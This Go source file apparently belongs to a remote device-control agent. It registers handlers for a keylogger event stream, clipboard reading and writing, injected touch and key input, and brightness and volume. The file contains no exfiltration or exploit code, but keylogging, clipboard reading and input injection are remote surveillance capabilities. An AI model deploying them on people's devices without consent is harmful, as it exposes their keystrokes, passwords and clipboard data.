package handlers

import (
	"context"
	"fmt"

	"mq_agent/pkg/device"
	"mq_agent/pkg/errs"
	"mq_agent/pkg/models"
	"mq_agent/pkg/registry"
)

// 默认音频流，对应 STREAM_MUSIC
const defaultStreamType = 3

var inputActions = map[string]bool{
	"tap": true, "swipe": true, "text": true, "key": true, "back": true, "home": true,
}

func (d *Deps) systemHandlers() []*handler {
	return []*handler{
		{
			desc: registry.Descriptor{
				Action: "keylogger", Domain: DomainSystem, Kind: registry.KindStateful, Capability: CapKeylogger,
				Description: "开启或关闭按键事件流", Schema: enableSchema,
			},
			run: func(ctx context.Context, args models.Args) (interface{}, error) {
				enable, err := requireBool(args, "enable")
				if err != nil {
					return nil, err
				}
				acquire := d.streamAcquirer(CapKeylogger, 0, func(models.Args) (device.FrameSource, error) {
					return d.Device.KeyEvents.OpenKeyEvents()
				})
				return d.toggle(ctx, CapKeylogger, enable, args, acquire, "Keylogger")
			},
		},
		{
			desc: registry.Descriptor{
				Action: "clipboard_read", Domain: DomainSystem, Kind: registry.KindRunOnce,
				Description: "读取剪贴板",
			},
			run: func(ctx context.Context, args models.Args) (interface{}, error) {
				text, err := d.Device.Clipboard.ReadClipboard(ctx)
				if err != nil {
					return nil, err
				}
				return map[string]interface{}{"text": text}, nil
			},
		},
		{
			desc: registry.Descriptor{
				Action: "clipboard_write", Domain: DomainSystem, Kind: registry.KindRunOnce,
				Description: "写入剪贴板",
				Schema:      `{"type":"object","required":["text"],"properties":{"text":{"type":"string"}}}`,
			},
			run: func(ctx context.Context, args models.Args) (interface{}, error) {
				if err := d.Device.Clipboard.WriteClipboard(ctx, args.String("text", "")); err != nil {
					return nil, err
				}
				return "Clipboard updated", nil
			},
		},
		{
			desc: registry.Descriptor{
				Action: "inject_input", Domain: DomainSystem, Kind: registry.KindRunOnce,
				Description: "注入触摸或按键事件",
				Schema: `{"type":"object","required":["action"],"properties":{"action":{"type":"string"},` +
					`"x":{"type":["integer","string"]},"y":{"type":["integer","string"]},` +
					`"x2":{"type":["integer","string"]},"y2":{"type":["integer","string"]},"text":{"type":"string"}}}`,
			},
			validate: func(args models.Args) error {
				_, err := inputEvent(args)
				return err
			},
			run: func(ctx context.Context, args models.Args) (interface{}, error) {
				event, err := inputEvent(args)
				if err != nil {
					return nil, err
				}
				if err := d.Device.Input.InjectInput(ctx, event); err != nil {
					return nil, err
				}
				return "Input injected: " + event.Action, nil
			},
		},
		{
			desc: registry.Descriptor{
				Action: "set_brightness", Domain: DomainSystem, Kind: registry.KindRunOnce,
				Description: "设置屏幕亮度 0-255",
				Schema:      `{"type":"object","required":["brightness"],"properties":{"brightness":{"type":["integer","string"]}}}`,
			},
			validate: func(args models.Args) error {
				_, err := brightness(args)
				return err
			},
			run: func(ctx context.Context, args models.Args) (interface{}, error) {
				level, err := brightness(args)
				if err != nil {
					return nil, err
				}
				if err := d.Device.Display.SetBrightness(ctx, level); err != nil {
					return nil, err
				}
				return fmt.Sprintf("Brightness set to %d", level), nil
			},
		},
		{
			desc: registry.Descriptor{
				Action: "set_volume", Domain: DomainSystem, Kind: registry.KindRunOnce,
				Description: "设置音量，超出范围直接拒绝",
				Schema:      `{"type":"object","required":["volume"],"properties":{"volume":{"type":["integer","string"]},"stream_type":{"type":["integer","string"]}}}`,
			},
			run: d.setVolume,
		},
	}
}

func inputEvent(args models.Args) (device.InputEvent, error) {
	event := device.InputEvent{
		Action: args.String("action", ""),
		X:      args.Int("x", 0),
		Y:      args.Int("y", 0),
		X2:     args.Int("x2", 0),
		Y2:     args.Int("y2", 0),
		Text:   args.String("text", ""),
	}
	if !inputActions[event.Action] {
		return event, errs.Validation("Invalid input action: %s", event.Action)
	}
	if (event.Action == "text" || event.Action == "key") && event.Text == "" {
		return event, errs.Validation("Missing required argument: text")
	}
	return event, nil
}

func brightness(args models.Args) (int, error) {
	level, err := requireInt(args, "brightness")
	if err != nil {
		return 0, err
	}
	if level < 0 || level > 255 {
		return 0, errs.Validation("Brightness must be between 0 and 255")
	}
	return level, nil
}

func (d *Deps) setVolume(ctx context.Context, args models.Args) (interface{}, error) {
	level, err := requireInt(args, "volume")
	if err != nil {
		return nil, err
	}
	stream := args.Int("stream_type", defaultStreamType)
	max, err := d.Device.Audio.MaxVolume(ctx, stream)
	if err != nil {
		return nil, err
	}
	if level < 0 || level > max {
		return nil, errs.Validation("Invalid volume level: %d (max %d)", level, max)
	}
	if err := d.Device.Audio.SetVolume(ctx, stream, level); err != nil {
		return nil, err
	}
	return fmt.Sprintf("Volume set to %d", level), nil
}
